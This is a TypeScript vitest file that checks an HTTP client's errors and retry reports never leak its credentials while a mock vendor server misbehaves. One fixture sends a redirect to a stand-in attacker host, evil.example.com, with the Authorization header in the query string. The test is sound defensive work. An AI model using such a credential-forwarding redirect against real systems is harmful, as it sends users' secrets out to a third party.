import { inspect } from 'node:util';
import { describe, expect, test } from 'vitest';
import { Failure } from '../failure/failure.ts';
import type { AuthStyle } from './auth.ts';
import {
  answerJson,
  type ReceivedRequest,
  type Script,
  type ScriptedServer,
} from './scripted-server.fixture.ts';
import { finish, get, start } from './vendor-client.fixture.ts';

describe('secrets', () => {
  const secret = 'canary-s3cr&t/+';
  const clientCredentials = {
    kind: 'oauth2ClientCredentials',
    clientId: 'id',
    clientSecret: secret,
    scopes: [],
  } as const;
  const refresh = {
    kind: 'refreshToken',
    clientId: 'id',
    clientSecret: secret,
    refreshToken: `${secret}-refresh`,
  } as const;
  const styles: ((url: string) => AuthStyle)[] = [
    () => ({ kind: 'bearer', token: secret }),
    () => ({ kind: 'basic', username: 'user', password: secret }),
    () => ({ kind: 'oauth1', consumerKey: 'key', consumerSecret: secret, signatureMethod: 'HMAC-SHA1' }),
    (url) => ({ ...clientCredentials, tokenUrl: `${url}/token`, clientAuth: 'basic' }),
    (url) => ({ ...clientCredentials, tokenUrl: `${url}/token`, clientAuth: 'form' }),
    () => ({ kind: 'apiKey', header: 'X-Api-Key', value: secret }),
    (url) => ({ ...refresh, tokenUrl: `${url}/token`, clientAuth: 'basic' }),
    (url) => ({ ...refresh, tokenUrl: `${url}/token`, sendAs: 'json' }),
    (url) => ({ kind: 'tokenExchange', tokenUrl: `${url}/token`, authorization: `Bearer ${secret}` }),
  ];
  /** Every way to fail, with an echo of the whole request wherever an answer has room for it. */
  const echoes: [string, Script][] = [
    ...[400, 401, 403, 404, 413, 422, 429, 500, 502, 503].map((status): [string, Script] => [
      `${status}`,
      (request, response) =>
        void response
          .writeHead(status, { 'content-type': 'text/plain' })
          .end(`${bareCredential(request)} ${secret} ${encodeURIComponent(secret)} ${inspect(request)}`),
    ]),
    ['JSON that echoes', (request, response) => answerJson(response, { request, secret }, { status: 400 })],
    [
      'a web page',
      (request, response) =>
        void response.setHeader('content-type', 'text/html').end(`<pre>${inspect(request)}`),
    ],
    ['cut-off JSON', (request, response) => void response.end(`{"a":"${request.headers.authorization}`)],
    ['malformed JSON', (request, response) => void response.end(`{${request.headers.authorization}}`)],
    ['a lost connection', (_, response) => void response.socket?.destroy()],
    [
      'a redirect elsewhere',
      (request, response) =>
        void response
          .writeHead(302, {
            location: `https://evil.example.com/?a=${encodeURIComponent(request.headers.authorization ?? '')}`,
          })
          .end(),
    ],
    ['not HTTP', (request, response) => void response.socket?.end(`${request.headers.authorization}\r\n`)],
    [
      'a gzip body that is none',
      (request, response) =>
        void response.setHeader('content-encoding', 'gzip').end(`${request.headers.authorization}`),
    ],
  ];

  describe.each([true, false])('with a token endpoint that works: %s', (isTokenGood) => {
    test.each(echoes)(
      'are in no failure and no report when the vendor answers with %s',
      async (_, script) => {
        for (const style of styles) {
          const stage = await start(
            (request, response, index) =>
              request.target === '/token' && isTokenGood
                ? answerJson(response, { access_token: 'canary-access-token' })
                : script(request, response, index),
            ({ url }) => ({ auth: style(url), retry: { attempts: 2, initialDelayMs: 1 } }),
          );
          const { thrown } = await finish(stage.clock, get(stage.client));
          expect(thrown).toBeInstanceOf(Failure);
          const written =
            JSON.stringify([thrown, stage.attempts]) + inspect(thrown, { depth: 20, showHidden: true });
          for (const secretPart of ['canary', 's3cr', ...sentCredentials(stage.server)]) {
            expect(written).not.toContain(secretPart);
          }
        }
      },
    );
  });
});

/** As some vendors name what they refuse: "invalid token abc". */
function bareCredential({ headers }: ReceivedRequest): string {
  return `invalid ${headers.authorization?.split(' ').at(-1)}`;
}

/** What went over the wire in the `Authorization` headers: Base64 and signatures, in which the canary does not show. */
function sentCredentials({ requests }: ScriptedServer): readonly string[] {
  return requests.flatMap(({ headers: { authorization = '' } }) =>
    authorization.startsWith('OAuth')
      ? [...authorization.matchAll(/oauth_signature="([^"]+)"/g)].map(([, signature = '']) => signature)
      : authorization.split(' ').slice(1),
  );
}
